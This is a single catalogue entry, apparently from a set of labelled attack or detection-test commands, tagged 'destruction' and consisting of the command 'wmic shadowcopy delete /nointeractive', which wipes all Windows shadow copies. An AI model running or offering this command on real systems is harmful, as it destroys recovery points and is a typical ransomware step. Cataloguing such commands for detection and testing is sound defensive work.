# description: Deletes all shadow copies through wmic.
# family: destruction
wmic shadowcopy delete /nointeractive
